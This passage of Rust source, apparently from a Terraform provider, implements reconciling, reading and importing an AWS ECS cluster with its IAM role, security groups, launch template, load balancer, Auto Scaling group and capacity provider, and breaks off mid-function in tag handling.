//! Creating, updating, reading, importing and deleting a cluster.
//!
//! Create and update are one reconcile: every object is found by its deterministic name (and
//! adopted), created when missing and corrected when it drifted. Steps run in dependency order,
//! independent ones concurrently (IAM, security groups, the cluster and the AMI lookup do not
//! wait for each other). A failure returns the state of everything that exists.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use ecsprod_cty::Value;

use crate::aws::retry::{AwsError, retry_while};
use crate::aws::tags as aws_tags;
use crate::aws::{
    Clients, ami, auto_scaling_group, capacity_provider, ecs_cluster, iam_role, launch_template,
    load_balancer, security_group,
};
use crate::blueprint::OWNER_TAG;
use crate::blueprint::cluster::{self as bp, ClusterInput};
use crate::engine::{self, Progress};
use crate::protocol::diag::{Diagnostic, Diagnostics};
use crate::protocol::provider::{ApplyOutput, CallContext, ImportOutput, ReadOutput};
use crate::resources::Context;
use crate::resources::fields::{self, Field};

use super::{TYPE_NAME, schema};

/// The time an operation (`create`, `update` or `delete`, as `timeouts` names them) has left.
#[derive(Debug, Clone, Copy)]
struct Budget {
    until: Instant,
    operation: &'static str,
}

impl Budget {
    fn new(operation: &'static str, limit: Duration) -> Self {
        let now = Instant::now();
        Self {
            until: now.checked_add(limit).unwrap_or(now),
            operation,
        }
    }

    fn remaining(&self) -> Duration {
        self.until.saturating_duration_since(Instant::now())
    }
}

/// IDs and names of the objects that exist, as recorded by the steps.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Ids {
    pub arn: Option<String>,
    pub instance_role_arn: Option<String>,
    pub instance_profile: Option<String>,
    pub alb_security_group_id: Option<String>,
    pub instance_security_group_id: Option<String>,
    pub ami_id: Option<String>,
    pub launch_template_id: Option<String>,
    pub autoscaling_group_name: Option<String>,
    pub autoscaling_group_arn: Option<String>,
    pub capacity_provider_name: Option<String>,
    pub capacity_provider_arn: Option<String>,
    pub alb_arn: Option<String>,
    pub alb_dns_name: Option<String>,
    pub alb_zone_id: Option<String>,
    pub https_listener_arn: Option<String>,
    pub http_listener_arn: Option<String>,
}

/// Computed attributes and the recorded value each one takes.
fn computed(ids: &Ids) -> [(&'static str, Option<&String>); 11] {
    [
        ("arn", ids.arn.as_ref()),
        ("instance_role_arn", ids.instance_role_arn.as_ref()),
        ("alb_security_group_id", ids.alb_security_group_id.as_ref()),
        (
            "instance_security_group_id",
            ids.instance_security_group_id.as_ref(),
        ),
        ("launch_template_id", ids.launch_template_id.as_ref()),
        (
            "autoscaling_group_name",
            ids.autoscaling_group_name.as_ref(),
        ),
        (
            "capacity_provider_name",
            ids.capacity_provider_name.as_ref(),
        ),
        ("alb_arn", ids.alb_arn.as_ref()),
        ("alb_dns_name", ids.alb_dns_name.as_ref()),
        ("alb_zone_id", ids.alb_zone_id.as_ref()),
        ("https_listener_arn", ids.https_listener_arn.as_ref()),
    ]
}

fn set(state: &mut Value, attr: &str, value: Value) {
    if let Some(slot) = state.get_attr_mut(attr) {
        *slot = value;
    }
}

fn opt_string(v: Option<&String>) -> Value {
    v.map_or(Value::Null, |s| Value::string(s.clone()))
}

/// The state to save: the planned values with every computed value filled from what exists
/// (null for what does not).
fn state_from(planned: &Value, ids: &Ids) -> Value {
    let mut state = planned.clone();
    for (attr, value) in computed(ids) {
        set(&mut state, attr, opt_string(value));
    }
    set(&mut state, "ami_id", opt_string(ids.ami_id.as_ref()));
    let name = fields::string(planned, "name").known().cloned();
    set(&mut state, "id", opt_string(name.as_ref()));
    state
}

fn ids_from_state(state: &Value) -> Ids {
    let s = |a: &str| fields::string(state, a).known().cloned();
    Ids {
        arn: s("arn"),
        instance_role_arn: s("instance_role_arn"),
        instance_profile: None,
        alb_security_group_id: s("alb_security_group_id"),
        instance_security_group_id: s("instance_security_group_id"),
        ami_id: s("ami_id"),
        launch_template_id: s("launch_template_id"),
        autoscaling_group_name: s("autoscaling_group_name"),
        autoscaling_group_arn: None,
        capacity_provider_name: s("capacity_provider_name"),
        capacity_provider_arn: None,
        alb_arn: s("alb_arn"),
        alb_dns_name: s("alb_dns_name"),
        alb_zone_id: s("alb_zone_id"),
        https_listener_arn: s("https_listener_arn"),
        http_listener_arn: None,
    }
}

fn known_strings(v: &Field<Vec<Field<String>>>) -> Option<Vec<String>> {
    v.known()?.iter().map(|f| f.known().cloned()).collect()
}

fn int32(v: &Field<i64>) -> Option<i32> {
    v.known().and_then(|n| i32::try_from(*n).ok())
}

/// The blueprint input from a planned value (known at apply time but for `ami_id`).
pub fn input_from(planned: &Value) -> Result<ClusterInput, Diagnostics> {
    let c = super::config::ClusterConfig::from_value(planned);
    let missing = |what: &str| {
        Diagnostics::from(Diagnostic::error(
            "Value not known at apply time",
            format!("{what} must be known when the cluster is applied."),
        ))
    };
    let tags = fields::string_map(planned, "tags_all")
        .known()
        .map(|m| {
            m.iter()
                .filter_map(|(k, v)| Some((k.clone(), v.known()?.clone())))
                .collect::<BTreeMap<_, _>>()
        })
        .unwrap_or_default();
    Ok(ClusterInput {
        name: c.name.known().cloned().ok_or_else(|| missing("name"))?,
        vpc_id: c.vpc_id.known().cloned().ok_or_else(|| missing("vpc_id"))?,
        public_subnet_ids: known_strings(&c.public_subnet_ids)
            .ok_or_else(|| missing("public_subnet_ids"))?,
        private_subnet_ids: known_strings(&c.private_subnet_ids)
            .ok_or_else(|| missing("private_subnet_ids"))?,
        certificate_arn: c
            .certificate_arn
            .known()
            .cloned()
            .ok_or_else(|| missing("certificate_arn"))?,
        ssl_policy: c
            .ssl_policy
            .known()
            .cloned()
            .ok_or_else(|| missing("ssl_policy"))?,
        instance_types: known_strings(&c.instance_types)
            .ok_or_else(|| missing("instance_types"))?,
        min_size: int32(&c.min_size).ok_or_else(|| missing("min_size"))?,
        max_size: int32(&c.max_size).ok_or_else(|| missing("max_size"))?,
        on_demand_base_capacity: int32(&c.on_demand_base_capacity)
            .ok_or_else(|| missing("on_demand_base_capacity"))?,
        on_demand_percentage_above_base: int32(&c.on_demand_percentage_above_base)
            .ok_or_else(|| missing("on_demand_percentage_above_base"))?,
        spot_allocation_strategy: c
            .spot_allocation_strategy
            .known()
            .cloned()
            .ok_or_else(|| missing("spot_allocation_strategy"))?,
        target_capacity: int32(&c.target_capacity).ok_or_else(|| missing("target_capacity"))?,
        ami_id: c.ami_id.known().cloned().unwrap_or_default(),
        root_volume_size: int32(&c.root_volume_size).ok_or_else(|| missing("root_volume_size"))?,
        ebs_kms_key_id: c.ebs_kms_key_id.known().cloned(),
        container_insights: c.container_insights.known().copied().unwrap_or(true),
        deletion_protection: c.deletion_protection.known().copied().unwrap_or(true),
        tags,
    })
}

/// Errors worth retrying while a new instance profile propagates through IAM.
fn profile_not_yet_visible(e: &AwsError) -> bool {
    let m = e.message.to_ascii_lowercase();
    (m.contains("instance profile") || m.contains("iaminstanceprofile"))
        && (m.contains("invalid") || m.contains("not found") || m.contains("does not exist"))
}

/// Create or update: converge AWS on `planned`.
pub async fn reconcile(
    ctx: &Context,
    call: &CallContext,
    prior: &Value,
    planned: &Value,
) -> ApplyOutput {
    let mut input = match input_from(planned) {
        Ok(i) => i,
        Err(d) => return fail(prior, d),
    };
    let clients = match ctx.clients().await {
        Ok(c) => c,
        Err(d) => return fail(prior, d),
    };
    let mut start = if prior.is_null() {
        Ids::default()
    } else {
        ids_from_state(prior)
    };
    if !input.ami_id.is_empty() {
        start.ami_id = Some(input.ami_id.clone());
    }
    let progress = Progress::new(start);
    let operation = if prior.is_null() { "create" } else { "update" };
    let budget = Budget::new(operation, super::config::timeout(planned, operation));
    let result = run(clients, call, budget, &mut input, &progress).await;
    let ids = progress.snapshot();
    let new_state = state_from(planned, &ids);
    match result {
        Ok(()) => ApplyOutput {
            new_state,
            private: Vec::new(),
            diagnostics: Diagnostics::new(),
        },
        Err(errors) => ApplyOutput {
            new_state,
            private: Vec::new(),
            diagnostics: engine::diagnostics(TYPE_NAME, &errors),
        },
    }
}

fn fail(prior: &Value, diagnostics: Diagnostics) -> ApplyOutput {
    ApplyOutput {
        new_state: prior.clone(),
        private: Vec::new(),
        diagnostics,
    }
}

async fn run(
    c: &Clients,
    call: &CallContext,
    budget: Budget,
    input: &mut ClusterInput,
    progress: &Progress<Ids>,
) -> Result<(), Vec<AwsError>> {
    let names = bp::names(&input.name);
    let tags = bp::tags(input);
    let seen = std::sync::Mutex::new(Seen::default());
    let note = |f: &dyn Fn(&mut Seen)| {
        if let Ok(mut s) = seen.lock() {
            f(&mut s);
        }
    };

    // Phase 1: the cluster, IAM, both security groups and the AMI, concurrently.
    let cluster_step = async {
        let existing = ecs_cluster::describe(c, &names.cluster).await?;
        note(&|s| s.cluster = existing.clone());
        let arn = match existing {
            Some(found) => {
                if found.container_insights != input.container_insights {
                    ecs_cluster::set_container_insights(
                        c,
                        &names.cluster,
                        input.container_insights,
                    )
                    .await?;
                }
                found.arn
            }
            None => ecs_cluster::create(c, &names.cluster, input.container_insights, &tags).await?,
        };
        progress.record(|ids| ids.arn = Some(arn));
        Ok(())
    };
    let iam_step = async {
        let trust = bp::instance_role_trust_policy();
        let policies = bp::instance_role_policies(&c.partition);
        let (role, found) = iam_role::ensure_role(
            c,
            &names.instance_role,
            &trust,
            &policies,
            iam_role::OtherPolicies::Detach,
            &[],
            &tags,
        )
        .await?;
        note(&|s| s.role_tags = found.as_ref().map(|r| r.tags.clone()));
        progress.record(|ids| ids.instance_role_arn = Some(role));
        iam_role::ensure_instance_profile(c, &names.instance_profile, &names.instance_role).await?;
        progress.record(|ids| ids.instance_profile = Some(names.instance_profile.clone()));
        Ok(())
    };
    let groups_step = async {
        let alb_spec = bp::alb_security_group(input);
        let instance_spec = bp::instance_security_group(input);
        // Both groups in one read.
        let found = security_group::describe_by_names(
            c,
            &input.vpc_id,
            &[&alb_spec.name, &instance_spec.name],
        )
        .await?;
        let named = |n: &str| found.iter().find(|g| g.name == n).cloned();
        let alb = security_group::ensure(
            c,
            &input.vpc_id,
            &alb_spec,
            "",
            &tags,
            named(&alb_spec.name),
        )
        .await?;
        progress.record(|ids| ids.alb_security_group_id = Some(alb.clone()));
        let instances = security_group::ensure(
            c,
            &input.vpc_id,
            &instance_spec,
            &alb,
            &tags,
            named(&instance_spec.name),
        )
        .await?;
        progress.record(|ids| ids.instance_security_group_id = Some(instances));
        Ok(())
    };
    let needs_ami = input.ami_id.is_empty();
    let ami_step = async {
        if needs_ami {
            let ami = ami::recommended_ecs_ami(c).await?;
            progress.record(|ids| ids.ami_id = Some(ami));
        }
        Ok(())
    };
    engine::phase(vec![
        Box::pin(cluster_step) as StepFuture<'_>,
        Box::pin(iam_step),
        Box::pin(groups_step),
        Box::pin(ami_step),
    ])
    .await?;

    let ids = progress.snapshot();
    input.ami_id = ids.ami_id.clone().unwrap_or_default();
    let instance_sg = ids.instance_security_group_id.clone().unwrap_or_default();
    let alb_sg = ids.alb_security_group_id.clone().unwrap_or_default();

    // Phase 2: the launch template and the load balancer with its listeners.
    let lt_spec = bp::launch_template(input, &names.instance_profile, &instance_sg);
    let template_step = async {
        let id = retry_while(
            &call.cancel,
            budget.remaining(),
            profile_not_yet_visible,
            || launch_template::ensure(c, &lt_spec),
        )
        .await?;
        progress.record(|ids| ids.launch_template_id = Some(id.clone()));
        if let Some(observed) = launch_template::describe(c, &id).await?
            && template_drifted(&observed, &lt_spec)
        {
            launch_template::new_default_version(c, &id, &lt_spec).await?;
        }
        Ok(())
    };
    let lb_spec = bp::load_balancer(input, &alb_sg);
    let https_spec = bp::https_listener(input);
    let http_spec = bp::http_listener();
    let lb_step = async {
        let lb = load_balancer::ensure(c, &lb_spec).await?;
        progress.record(|ids| {
            ids.alb_arn = Some(lb.arn.clone());
            ids.alb_dns_name = Some(lb.dns_name.clone());
            ids.alb_zone_id = Some(lb.zone_id.clone());
        });
        let (current, existing) = tokio::try_join!(
            load_balancer::attributes(c, &lb.arn),
            load_balancer::listeners(c, &lb.arn),
        )?;
        load_balancer::set_attributes(c, &lb.arn, &lb_spec, &current).await?;
        let own_group = std::slice::from_ref(&lb_spec.security_group_id);
        if lb.security_group_ids != own_group {
            load_balancer::set_security_groups(c, &lb.arn, own_group).await?;
        }
        let https = load_balancer::ensure_https(c, &lb.arn, &existing, &https_spec, &tags).await?;
        progress.record(|ids| ids.https_listener_arn = Some(https));
        let http =
            load_balancer::ensure_http_redirect(c, &lb.arn, &existing, &http_spec, &tags).await?;
        progress.record(|ids| ids.http_listener_arn = Some(http));
        // The load balancer serves HTTPS on 443 and redirects on 80, nothing else.
        for other in existing.iter().filter(|l| !own_listener(l)) {
            load_balancer::delete_listener(c, &other.arn).await?;
        }
        Ok(())
    };
    engine::phase(vec![
        Box::pin(template_step) as StepFuture<'_>,
        Box::pin(lb_step),
    ])
    .await?;

    // Phase 3: the Auto Scaling group.
    let template_id = progress.snapshot().launch_template_id.unwrap_or_default();
    let asg_spec = bp::auto_scaling_group(input, &template_id);
    let (asg_arn, group_tags) = group_step(c, call, budget, &asg_spec)
        .await
        .map_err(|e| vec![e])?;
    progress.record(|ids| {
        ids.autoscaling_group_name = Some(asg_spec.name.clone());
        ids.autoscaling_group_arn = Some(asg_arn.clone());
    });

    // Phase 4: the capacity provider, then the cluster's default strategy.
    let cp_spec = bp::capacity_provider(input, &asg_arn);
    let cp = async {
        let arn = match capacity_provider::describe(c, &cp_spec.name).await? {
            Some(found) if found.auto_scaling_group_arn != cp_spec.auto_scaling_group_arn => {
                // Detached from the cluster now: what phase 1 saw of the cluster is stale.
                note(&|s| s.cluster = None);
                rebind_capacity_provider(c, call, budget, &names.cluster, &cp_spec).await?
            }
            Some(found) => {
                if found.target_capacity != cp_spec.target_capacity
                    || !found.managed_scaling
                    || found.managed_termination_protection
                        != cp_spec.managed_termination_protection
                    || found.managed_draining != cp_spec.managed_draining
                {
                    retry_while(&call.cancel, budget.remaining(), update_in_progress, || {
                        capacity_provider::update(c, &cp_spec)
                    })
                    .await?;
                }
                note(&|s| s.provider_tags = Some(found.tags.clone()));
                found.arn
            }
            None => capacity_provider::ensure(c, &cp_spec).await?,
        };
        progress.record(|ids| {
            ids.capacity_provider_name = Some(cp_spec.name.clone());
            ids.capacity_provider_arn = Some(arn);
        });
        let known = seen.lock().ok().and_then(|s| s.cluster.clone());
        let cluster = match known {
            Some(cl) => Some(cl),
            None => ecs_cluster::describe(c, &names.cluster).await?,
        };
        let attached = cluster.is_some_and(|cl| {
            cl.capacity_providers == vec![cp_spec.name.clone()]
                && cl.default_strategy_items
                    == vec![(cp_spec.name.clone(), bp::STRATEGY_WEIGHT, bp::STRATEGY_BASE)]
        });
        if !attached {
            retry_while(&call.cancel, budget.remaining(), update_in_progress, || {
                ecs_cluster::set_capacity_provider(c, &names.cluster, Some(&cp_spec.name))
            })
            .await?;
        }
        Ok::<(), AwsError>(())
    };
    cp.await.map_err(|e| vec![e])?;

    // Phase 5: tags on every object, concurrently (creates tag new objects already; this
    // brings existing ones in line after a change of `tags` or `default_tags`).
    let ids = progress.snapshot();
    let named = |name: &str| {
        let mut t = tags.clone();
        t.insert("Name".into(), name.to_owned());
        t
    };
    // Tags the steps above saw are not read again.
    let seen = seen.into_inner().unwrap_or_default();
    let mut steps: Vec<StepFuture<'_>> = Vec::new();
    if let Some(arn) = ids.arn.clone() {
        let t = tags.clone();
        let observed = seen.cluster.map(|cl| cl.tags);
        steps.push(Box::pin(async move {
            aws_tags::ecs(c, &arn, &t, observed.as_ref()).await
        }));
    }
    if let Some(arn) = ids.capacity_provider_arn.clone() {
        let t = tags.clone();
        let observed = seen.provider_tags;
        steps.push(Box::pin(async move {
            aws_tags::ecs(c, &arn, &t, observed.as_ref()).await
        }));
    }
    let desired_group_tags = asg_spec.tags.clone();
    let group_name = asg_spec.name.clone();
    steps.push(Box::pin(async move {
        aws_tags::autoscaling(c, &group_name, &desired_group_tags, group_tags.as_ref()).await
    }));
    // The template and both groups in one read, the load balancer and its listeners in one.
    let ec2_objects: Vec<(String, aws_tags::Tags)> = [
        (ids.launch_template_id.clone(), &names.launch_template),
        (ids.alb_security_group_id.clone(), &names.alb_security_group),
        (
            ids.instance_security_group_id.clone(),
            &names.instance_security_group,
        ),
    ]
    .into_iter()
    .filter_map(|(id, name)| Some((id?, named(name))))
    .collect();
    steps.push(Box::pin(
        async move { aws_tags::ec2(c, &ec2_objects).await },
    ));
    let lb_objects: Vec<String> = [
        ids.alb_arn.clone(),
        ids.https_listener_arn.clone(),
        ids.http_listener_arn.clone(),
    ]
    .into_iter()
    .flatten()
    .collect();
    let lb_tags = tags.clone();
    steps.push(Box::pin(async move {
        aws_tags::elbv2(c, &lb_objects, &lb_tags).await
    }));
    let role = names.instance_role.clone();
    let role_tags = tags.clone();
    steps.push(Box::pin(async move {
        aws_tags::iam_role(c, &role, &role_tags, seen.role_tags.as_ref()).await
    }));
    engine::phase(steps).await
}

/// AWS cannot move a capacity provider to another Auto Scaling group, so one bound to another
/// group (the group or the provider was replaced outside Terraform) is detached from the cluster,
/// deleted and created again. ECS refuses the detach while tasks run on it and the delete while
/// a service's strategy names it.
async fn rebind_capacity_provider(
    c: &Clients,
    call: &CallContext,
    budget: Budget,
    cluster: &str,
    spec: &bp::CapacityProviderSpec,
) -> Result<String, AwsError> {
    let attached = ecs_cluster::describe(c, cluster)
        .await?
        .is_some_and(|cl| cl.capacity_providers.contains(&spec.name));
    let busy = |e: &AwsError| e.code() == Some("UpdateInProgressException");
    if attached {
        retry_while(&call.cancel, budget.remaining(), busy, || {
            ecs_cluster::set_capacity_provider(c, cluster, None)
        })
        .await
        .map_err(|e| {
            if e.code() == Some("ResourceInUseException") {
                AwsError::new(
                    "recreate the capacity provider",
                    format!(
                        "capacity provider {} is bound to another Auto Scaling group and AWS cannot move it, so it must be detached from cluster {cluster}, deleted and created again, but it is still in use by tasks or services ({}). Destroy the services on cluster {cluster}, apply, then create them again.",
                        spec.name, e.message
                    ),
                )
            } else {
                e
            }
        })?;
    }
    // ECS deletes in the background: a refused delete ends as DELETE_FAILED on a provider that
    // stays active.
    let failed_delete = std::sync::Mutex::new(None::<String>);
    // The detach may still be settling: ECS answers UpdateInProgressException until it is.
    let deleted = retry_while(&call.cancel, budget.remaining(), busy, || {
        capacity_provider::delete(c, &spec.name)
    })
    .await;
    let refused = match deleted {
        Ok(()) => {
            wait_until(
                call,
                budget,
                &format!("capacity provider {} to be deleted", spec.name),
                || async {
                    match capacity_provider::describe(c, &spec.name).await? {
                        None => Ok(true),
                        Some(cp) if cp.update_status.as_deref() == Some("DELETE_FAILED") => {
                            if let Ok(mut reason) = failed_delete.lock() {
                                *reason = Some(cp.update_status_reason.unwrap_or_default());
                            }
                            Ok(true)
                        }
                        Some(_) => Ok(false),
                    }
                },
            )
            .await?;
            failed_delete.into_inner().unwrap_or_default()
        }
        Err(e) => Some(e.message),
    };
    if let Some(reason) = refused {
        // Keep the cluster's capacity while the provider cannot be replaced.
        let restored = if attached {
            retry_while(&call.cancel, budget.remaining(), update_in_progress, || {
                ecs_cluster::set_capacity_provider(c, cluster, Some(&spec.name))
            })
            .await
        } else {
            Ok(())
        };
        let reason = if reason.is_empty() {
            String::new()
        } else {
            format!(" ({reason})")
        };
        return Err(AwsError::new(
            "recreate the capacity provider",
            format!(
                "capacity provider {} is bound to another Auto Scaling group and AWS cannot move it, so it must be deleted and created again, but AWS refused to delete it{reason}. ECS keeps a capacity provider while a service's capacity provider strategy names it: destroy the services on cluster {cluster}, apply, then create them again.{}",
                spec.name,
                match restored {
                    Ok(()) => String::new(),
                    Err(e) => format!(" Attaching it to the cluster again failed too: {e}."),
                }
            ),
        ));
    }
    capacity_provider::ensure(c, spec).await.map_err(|e| {
        AwsError::new(
            "recreate the capacity provider",
            format!(
                "capacity provider {} was deleted to bind it to the cluster's Auto Scaling group, and creating it again failed ({}); AWS can keep a deleted provider's name for a while. Cluster {cluster} has no capacity provider until an apply succeeds: apply again.",
                spec.name, e.message
            ),
        )
    })
}

/// Whether a listener is on one of the cluster's ports (HTTPS 443, the HTTP redirect on 80).
fn own_listener(l: &load_balancer::ObservedListener) -> bool {
    l.port == bp::HTTPS_PORT || l.port == bp::http_listener().port
}

/// What the steps of one apply found of existing objects, for the steps after them.
#[derive(Debug, Default)]
struct Seen {
    cluster: Option<ecs_cluster::ObservedCluster>,
    role_tags: Option<aws_tags::Tags>,
    provider_tags: Option<aws_tags::Tags>,
}

/// ECS refuses capacity provider changes while a previous one is still being applied.
fn update_in_progress(e: &AwsError) -> bool {
    matches!(
        e.code(),
        Some("UpdateInProgressException") | Some("ResourceInUseException")
    )
}

type StepFuture<'a> =
    std::pin::Pin<Box<dyn std::future::Future<Output = Result<(), AwsError>> + Send + 'a>>;

fn template_drifted(o: &launch_template::ObservedTemplate, spec: &bp::LaunchTemplateSpec) -> bool {
    o.image_id != spec.image_id
        || o.http_tokens_required != spec.http_tokens_required
        || o.hop_limit != spec.http_put_response_hop_limit
        || o.root_volume_size != spec.root_volume_size
        || o.root_volume_encrypted != spec.root_volume_encrypted
        || o.kms_key_id != spec.kms_key_id
        || o.instance_tags != spec.tags
        || template_settings(o, Some(&spec.security_group_id)) != expected_template_settings(spec)
}

/// Creates or updates the group; returns its ARN and, for a group that existed, its tags.
async fn group_step(
    c: &Clients,
    call: &CallContext,
    budget: Budget,
    spec: &bp::AutoScalingGroupSpec,
) -> Result<(String, Option<aws_tags::Tags>), AwsError> {
    match auto_scaling_group::describe(c, &spec.name).await? {
        Some(found) if !found.deleting => {
            let mut found_subnets = found.subnet_ids.clone();
            found_subnets.sort();
            let mut want_subnets = spec.subnet_ids.clone();
            want_subnets.sort();
            if found.min_size != spec.min_size
                || found.max_size != spec.max_size
                || found_subnets != want_subnets
                || found.instance_types != spec.instance_types
                || found.on_demand_base_capacity != spec.on_demand_base_capacity
                || found.on_demand_percentage_above_base != spec.on_demand_percentage_above_base
                || found.spot_allocation_strategy != spec.spot_allocation_strategy
                || !found.protected_from_scale_in
                || found.launch_template_id.as_deref() != Some(spec.launch_template_id.as_str())
                || found
                    .launch_template_version
                    .as_deref()
                    .unwrap_or(bp::LAUNCH_TEMPLATE_VERSION)
                    != bp::LAUNCH_TEMPLATE_VERSION
            {
                auto_scaling_group::update(c, spec).await?;
            }
            Ok((found.arn, Some(found.tags)))
        }
        _ => {
            let arn = retry_while(
                &call.cancel,
                budget.remaining(),
                profile_not_yet_visible,
                || auto_scaling_group::ensure(c, spec),
            )
            .await?;
            Ok((arn, None))
        }
    }
}

/// Keeps the prior order of a list when AWS returns the same elements in another order.
fn same_set_keep_order(prior: Option<Vec<String>>, observed: Vec<String>) -> Vec<String> {
    match prior {
        Some(p) => {
            let mut a = p.clone();
            a.sort();
            let mut b = observed.clone();
            b.sort();
            if a == b { p } else { observed }
        }
        None => observed,
    }
}

fn strings(items: &[String]) -> Value {
    Value::List(items.iter().map(|s| Value::string(s.clone())).collect())
}

/// What AWS says about a cluster, for refresh and import.
#[derive(Debug, Default)]
struct Observed {
    cluster: Option<ecs_cluster::ObservedCluster>,
    role: Option<iam_role::ObservedRole>,
    alb_group: Option<security_group::ObservedSecurityGroup>,
    instance_group: Option<security_group::ObservedSecurityGroup>,
    template: Option<launch_template::ObservedTemplate>,
    /// The launch template's own tags.
    template_tags: Option<aws_tags::Tags>,
    group: Option<auto_scaling_group::ObservedGroup>,
    capacity_provider: Option<capacity_provider::ObservedCapacityProvider>,
    lb: Option<load_balancer::ObservedLoadBalancer>,
    deletion_protection: Option<bool>,
    /// The load balancer's attributes, by key.
    lb_attributes: BTreeMap<String, String>,
    https: Option<load_balancer::ObservedListener>,
    http: Option<load_balancer::ObservedListener>,
    /// Listeners on any other port.
    other_listeners: Vec<load_balancer::ObservedListener>,
    /// Tags of the load balancer and its listeners, by ARN.
    lb_tags: BTreeMap<String, aws_tags::Tags>,
    /// The instance role's managed policies (ARNs) and inline policies (names), when the role
    /// exists.
    role_policies: Option<Vec<String>>,
    role_inline_policies: Option<Vec<String>>,
    /// The roles the instance profile holds, when the profile exists.
    profile_roles: Option<Vec<String>>,
}

/// `Ok(None)` for an IAM entity that does not exist.
async fn unless_missing<T>(
    read: impl std::future::Future<Output = Result<T, AwsError>>,
) -> Result<Option<T>, AwsError> {
    match read.await {
        Ok(v) => Ok(Some(v)),
        Err(e) if e.code() == Some("NoSuchEntity") => Ok(None),
        Err(e) => Err(e),
    }
}

async fn observe(
    c: &Clients,
    name: &str,
    vpc_hint: Option<&str>,
    template_id: Option<&str>,
) -> Result<Observed, AwsError> {
    let names = bp::names(name);
    let (cluster, role, role_policies, role_inline_policies, profile_roles, group, cp, lb) = tokio::try_join!(
        ecs_cluster::describe(c, &names.cluster),
        iam_role::describe_role(c, &names.instance_role),
        unless_missing(iam_role::attached_policies(c, &names.instance_role)),
        unless_missing(iam_role::inline_policies(c, &names.instance_role)),
        iam_role::instance_profile_roles(c, &names.instance_profile),
        auto_scaling_group::describe(c, &names.auto_scaling_group),
        capacity_provider::describe(c, &names.capacity_provider),
        load_balancer::describe(c, &names.load_balancer),
    )?;
    let vpc = lb
        .as_ref()
        .map(|l| l.vpc_id.clone())
        .or_else(|| vpc_hint.map(str::to_owned));
    let template_id = match template_id {
        Some(id) => Some(id.to_owned()),
        None => launch_template::find(c, &names.launch_template).await?,
    };
    // Both security groups in one call; the load balancer's and its listeners' tags in one call.
    let (groups, template, template_tags, lb_details) = tokio::try_join!(
        async {
            match &vpc {
                Some(v) => {
                    security_group::describe_by_names(
                        c,
                        v,
                        &[&names.alb_security_group, &names.instance_security_group],
                    )
                    .await
                }
                None => Ok(Vec::new()),
            }
        },
        async {
            match &template_id {
                Some(id) => launch_template::describe(c, id).await,
                None => Ok(None),
            }
        },
        async {
            match &template_id {
                Some(id) => launch_template::tags(c, id).await.map(Some),
                None => Ok(None),
            }
        },
        async {
            match &lb {
                Some(l) => {
                    let (attributes, (listeners, tags)) =
                        tokio::try_join!(load_balancer::attributes(c, &l.arn), async {
                            let listeners = load_balancer::listeners(c, &l.arn).await?;
                            // Listeners on other ports are not the cluster's: their tags are not
                            // its tags.
                            let mut arns = vec![l.arn.clone()];
                            arns.extend(
                                listeners
                                    .iter()
                                    .filter(|x| own_listener(x))
                                    .map(|x| x.arn.clone()),
                            );
                            let tags = aws_tags::read_elbv2(c, &arns).await?;
                            Ok::<_, AwsError>((listeners, tags))
                        })?;
                    Ok::<_, AwsError>(Some((attributes, listeners, tags)))
                }
                None => Ok(None),
            }
        },
    )?;
    let (lb_attributes, https, http, other_listeners, lb_tags) = match lb_details {
        Some((attributes, listeners, tags)) => {
            let on_port = |port: i32| listeners.iter().find(|l| l.port == port).cloned();
            let others = listeners
                .iter()
                .filter(|l| !own_listener(l))
                .cloned()
                .collect();
            (
                Some(attributes),
                on_port(bp::HTTPS_PORT),
                on_port(bp::http_listener().port),
                others,
                tags,
            )
        }
        None => (None, None, None, Vec::new(), BTreeMap::new()),
    };
    let deletion_protection = lb_attributes
        .as_ref()
        .map(|a| load_balancer::attribute_on(a, load_balancer::DELETION_PROTECTION));
    let group_named = |n: &str| groups.iter().find(|g| g.name == n).cloned();
    Ok(Observed {
        cluster,
        role,
        alb_group: group_named(&names.alb_security_group),
        instance_group: group_named(&names.instance_security_group),
        template,
        template_tags,
        group: group.filter(|g| !g.deleting),
        capacity_provider: cp,
        lb,
        deletion_protection,
        lb_attributes: lb_attributes.unwrap_or_default(),
        https,
        http,
        other_listeners,
        lb_tags,
        role_policies,
        role_inline_policies,
        profile_roles,
    })
}

/// The provider's default tags, as far as they are known.
fn default_tags(ctx: &Context) -> aws_tags::Tags {
    ctx.config()
        .and_then(|c| c.default_tags.known().cloned())
        .unwrap_or_default()
        .into_iter()
        .filter_map(|(k, v)| Some((k, v.known()?.clone())))
        .collect()
}

/// The user's tags as seen across objects, and the provider's own tags as seen.
///
/// Each object comes with the provider tags it must carry (`fixed`): those keys are left out of
/// the comparison with `desired` (the group's `Name` is not the user's `Name`). Every key whose
/// value on some object differs from `desired` (changed, added or removed) takes the value found
/// on the first such object, so the result equals `desired` exactly when no object drifted.
/// Likewise for `managed`, the provider tags that `managed_tags` shows. Keys starting with `aws:`
/// belong to AWS and are ignored.
fn tags_seen(
    desired: &aws_tags::Tags,
    managed: &aws_tags::Tags,
    objects: &[(&aws_tags::Tags, aws_tags::Tags)],
) -> (aws_tags::Tags, aws_tags::Tags) {
    let mut user: BTreeMap<String, Option<String>> = BTreeMap::new();
    let mut own: BTreeMap<String, Option<String>> = BTreeMap::new();
    for (observed, fixed) in objects {
        let keys: std::collections::BTreeSet<&String> = desired
            .keys()
            .chain(observed.keys())
            .filter(|k| !k.starts_with("aws:") && !fixed.contains_key(*k))
            .collect();
        for k in keys {
            let found = observed.get(k);
            if found != desired.get(k) && !user.contains_key(k) {
                user.insert(k.clone(), found.cloned());
            }
        }
        for (k, want) in fixed.iter().filter(|(k, _)| managed.contains_key(*k)) {
            let found = observed.get(k);
            if found != Some(want) && !own.contains_key(k) {
                own.insert(k.clone(), found.cloned());
            }
        }
    }
    let apply = |base: &aws_tags::Tags, changes: BTreeMap<String, Option<String>>| {
        let mut out = base.clone();
        for (k, v) in changes {
            match v {
                Some(v) => out.insert(k, v),
                None => out.remove(&k),
            };
        }
        out
    };
    (apply(desired, user), apply(managed, own))
}

/// Records the tags found on every object: `managed_tags` always, `tags_all` and `tags` when
/// some object's tags differ from `tags_all`.
fn apply_observed_tags(state: &mut Value, o: &Observed, default_tags: &aws_tags::Tags) {
    let Some(name) = fields::string(state, "name").known().cloned() else {
        return;
    };
    let names = bp::names(&name);
    let owner = || BTreeMap::from([(OWNER_TAG.to_owned(), name.clone())]);
    let named = |n: &str| {
        let mut t = owner();
        t.insert("Name".into(), n.to_owned());
        t
    };
